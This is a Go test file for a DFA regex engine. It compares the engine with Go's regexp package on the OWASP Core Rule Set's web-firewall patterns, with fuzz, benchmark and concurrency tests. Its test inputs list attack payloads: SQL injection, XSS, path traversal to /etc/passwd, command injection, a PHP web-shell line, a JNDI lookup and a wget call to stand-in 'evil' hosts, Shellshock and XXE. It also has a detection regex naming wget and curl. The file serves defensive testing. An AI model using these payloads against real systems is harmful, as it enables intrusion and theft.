package dfa

import (
	"io/fs"
	"regexp"
	"strings"
	"testing"

	"github.com/corazawaf/coraza-coreruleset/v4"
)

// crsPatterns returns every @rx expression of the embedded Core Rule Set, as the rule
// engine compiles it ((?sm) prefix).
func crsPatterns(t testing.TB) []string {
	t.Helper()
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	if err != nil || len(files) == 0 {
		t.Fatalf("CRS files: %v", err)
	}
	rx := regexp.MustCompile(`"@rx ((?:[^"\\]|\\.)*)"`)
	var patterns []string
	for _, f := range files {
		data, err := fs.ReadFile(coreruleset.FS, f)
		if err != nil {
			t.Fatal(err)
		}
		text := strings.ReplaceAll(string(data), "\\\n", "")
		for _, m := range rx.FindAllStringSubmatch(text, -1) {
			patterns = append(patterns, "(?sm)"+strings.ReplaceAll(m[1], `\"`, `"`))
		}
	}
	return patterns
}

// inputs exercise anchors, word boundaries, newlines, case and the Core Rule Set's attacks.
var inputs = []string{
	"", "a", " ", "\n", "SKU-10007", "Cotton shirt 38", "anna.schmidt@example.com", "json.items.3.price",
	"1' OR '1'='1", "1 UNION SELECT password FROM users", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
	"../../../../etc/passwd", "/etc/passwd", ";cat /etc/passwd", "| powershell -enc aQBl", "$(whoami)", "`id`",
	"<?php system($_GET['c']); ?>", "${jndi:ldap://evil.example/a}", "sleep(5)", "benchmark(1000,md5(1))",
	"SeLeCt\n*\nfrom\tusers", "x\ny", "a\n\nb", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
	"Mozilla/5.0 (X11; Linux x86_64)", "nikto", "() { :; }; echo vulnerable", "admin'--", "%27%20or%201=1",
	"eval(base64_decode('aGk='))", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "cmd.exe /c dir",
	"wget http://evil/x.sh", "ls -la", "/bin/sh -c id", "'; DROP TABLE users; --", "{{7*7}}", "\x00\x01\x7f",
}

func TestMatchesLikeRegexpOnCRS(t *testing.T) {
	patterns := crsPatterns(t)
	if len(patterns) < 200 {
		t.Fatalf("found %d @rx expressions, want the Core Rule Set's hundreds", len(patterns))
	}
	compiled := 0
	for _, p := range patterns {
		re, err := regexp.Compile(p)
		if err != nil {
			continue // binary expressions: the rule engine uses another package for them
		}
		m, err := New(p, re)
		if err != nil {
			t.Fatalf("New(%.60q): %v", p, err)
		}
		compiled++
		for _, in := range inputs {
			for _, s := range []string{in, strings.ToUpper(in), "prefix " + in + " suffix", in + "\n" + in} {
				if got, want := m.MatchString(s), re.MatchString(s); got != want {
					t.Errorf("%.80q on %q: dfa %v, regexp %v", p, s, got, want)
				}
			}
		}
	}
	if compiled < 200 {
		t.Errorf("compiled %d expressions", compiled)
	}
}

func TestNonASCIIAndBudgetFallBack(t *testing.T) {
	re := regexp.MustCompile(`(?i)é+`)
	m, err := New(re.String(), re)
	if err != nil {
		t.Fatal(err)
	}
	if !m.MatchString("café") || m.MatchString("cafe") {
		t.Error("non-ASCII input must be answered by the regexp package")
	}
	// An expression with many states: every distinct prefix of (a|b){12}c is a state.
	re = regexp.MustCompile(`[ab]*a[ab]{12}c`)
	m, err = New(re.String(), re)
	if err != nil {
		t.Fatal(err)
	}
	s := strings.Repeat("ab", 3000) + "aabababababababc"
	if got, want := m.MatchString(s), re.MatchString(s); got != want {
		t.Errorf("budget case: dfa %v, regexp %v", got, want)
	}
	if m.States() > MaxStates {
		t.Errorf("%d states, over the budget %d", m.States(), MaxStates)
	}
}

// FuzzMatchString compares the automaton with the regexp package on arbitrary inputs for
// expressions with every kind of assertion.
func FuzzMatchString(f *testing.F) {
	exprs := []string{
		`(?sm)^a.*b$`, `(?sm)\bselect\b`, `(?i)(?:union|select)\s+\w+`, `(?sm)\Bx\B`, `(?s)\Aab|cd\z`,
		`(?sm)[^a-z]{2,4}[0-9]`, `(?sm)(?:^|[;|&])\s*(?:ls|cat|id)\b`, `(?i)<script[^>]*>`,
	}
	var matchers []*Matcher
	var res []*regexp.Regexp
	for _, e := range exprs {
		re := regexp.MustCompile(e)
		m, err := New(e, re)
		if err != nil {
			f.Fatal(err)
		}
		matchers, res = append(matchers, m), append(res, re)
	}
	for _, in := range inputs {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for i, m := range matchers {
			if got, want := m.MatchString(s), res[i].MatchString(s); got != want {
				t.Fatalf("%s on %q: dfa %v, regexp %v", exprs[i], s, got, want)
			}
		}
	})
}

func BenchmarkMatchString(b *testing.B) {
	patterns := crsPatterns(b)
	values := []string{"SKU-10007", "Cotton shirt 38", "anna.schmidt@example.com", "json.items.3.price", "Hauptstrasse 12"}
	var matchers []*Matcher
	var res []*regexp.Regexp
	for _, p := range patterns {
		re, err := regexp.Compile(p)
		if err != nil {
			continue
		}
		m, err := New(p, re)
		if err != nil {
			b.Fatal(err)
		}
		matchers, res = append(matchers, m), append(res, re)
	}
	b.Run("dfa", func(b *testing.B) {
		for b.Loop() {
			for _, m := range matchers {
				for _, v := range values {
					m.MatchString(v)
				}
			}
		}
	})
	b.Run("regexp", func(b *testing.B) {
		for b.Loop() {
			for _, re := range res {
				for _, v := range values {
					re.MatchString(v)
				}
			}
		}
	})
}

// TestConcurrentUse builds states from several goroutines at once (run with -race).
func TestConcurrentUse(t *testing.T) {
	expr := `(?sm)(?:^|[;|&])\s*(?:cat|ls|id|wget|curl)\b|<script[^>]*>|\bunion\s+select\b`
	re := regexp.MustCompile(expr)
	m, err := New(expr, re)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan string, 8)
	for g := range 8 {
		go func() {
			for i := range 200 {
				s := inputs[(g*31+i)%len(inputs)]
				if m.MatchString(s) != re.MatchString(s) {
					done <- s
					return
				}
			}
			done <- ""
		}()
	}
	for range 8 {
		if s := <-done; s != "" {
			t.Errorf("disagreement on %q", s)
		}
	}
}
